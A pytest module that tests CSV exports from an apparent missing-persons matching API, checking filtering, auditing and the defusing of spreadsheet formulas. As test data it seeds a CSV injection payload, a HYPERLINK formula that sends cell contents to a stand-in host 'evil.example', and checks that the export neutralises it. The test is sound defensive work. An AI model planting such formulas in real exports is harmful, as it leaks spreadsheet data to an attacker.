"""The persons list and the review queue as CSV (GET /v1/exports/…), filtered as the listings
are, every formula defused, each download audited; and the queue's filters by case number,
warnings and years between."""

from __future__ import annotations

import csv
import io

import pytest

from tests.api.conftest import Server, unique
from tests.fakes import fake_photo

pytestmark = pytest.mark.parametrize("server", ["sqlite", "postgres"], indirect=True)

TABLED = 241  # the identity this module enrolls (tests/fakes.py)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_lists_as_csv_filtered_defused_and_audited(server: Server) -> None:
    ref, found_ref = unique("MP-CSV"), unique("FD-CSV")
    with server.client("admin") as client:
        body = {
            "name": '=HYPERLINK("http://evil.example/?"&A1)',
            "external_ref": ref,
            "birth_date": "2005-01-01",
            "attributes": {"place": "@SUM(1+1)"},
        }
        missing = client.post("/v1/persons", json=body).json()["id"]
        client.post(
            f"/v1/persons/{missing}/photos",
            data={"taken_at": "2011-01-01"},
            files=[("files", ("a.png", fake_photo(TABLED, 0, age=6), "image/png"))],
        )
        found = client.post(
            "/v1/persons", json={"name": "+Found CSV", "status": "found", "external_ref": found_ref}
        ).json()["id"]
        client.post(
            f"/v1/persons/{found}/photos",
            data={"taken_at": "2024-01-01"},
            files=[("files", ("b.png", fake_photo(TABLED, 1, age=19), "image/png"))],
        )

    with server.client("searcher") as client:
        persons = client.get("/v1/exports/persons.csv", params={"external_ref": ref})
        assert persons.status_code == 200, persons.text
        assert persons.headers["content-type"].startswith("text/csv")
        assert "attachment" in persons.headers["content-disposition"]
        (person,) = rows(persons.text)
        assert person["name"].startswith("'=HYPERLINK") and person["case_number"] == ref
        assert person["age_today"].isdigit() and '"place": "@SUM' in person["details"]

        pairs = client.get("/v1/exports/pairs.csv", params={"external_ref": found_ref})
        (pair,) = rows(pairs.text)
        assert pair["missing_name"].startswith("'=") and pair["found_name"] == "'+Found CSV"
        assert pair["found_case"] == found_ref and pair["age_check"] in {"consistent", "unlikely"}
        listed = client.get("/v1/matches", params={"external_ref": ref}).json()
        assert [p["id"] for p in listed["items"]] == [int(pair["pair"])]
        assert (
            client.get("/v1/matches", params={"external_ref": ref, "max_years_between": 5}).json()[
                "total"
            ]
            == 0
        )
        warned = "true" if int(pair["warnings"]) else "false"
        other = "false" if warned == "true" else "true"
        for flag, expected in ((warned, 1), (other, 0)):
            answer = client.get("/v1/matches", params={"external_ref": ref, "warned": flag})
            assert answer.json()["total"] == expected

    with server.client("admin") as client:
        entries = client.get("/v1/audit", params={"action": "export", "limit": 10}).json()
    tables = [r for e in entries for r in e["results"] if "table" in r]
    assert {"table": "pairs", "rows": 1, "filter": {"external_ref": found_ref}} in tables
    assert {"table": "persons", "rows": 1, "filter": {"external_ref": ref}} in tables
    with server.client("admin") as client:
        client.delete(f"/v1/persons/{missing}")
        client.delete(f"/v1/persons/{found}")
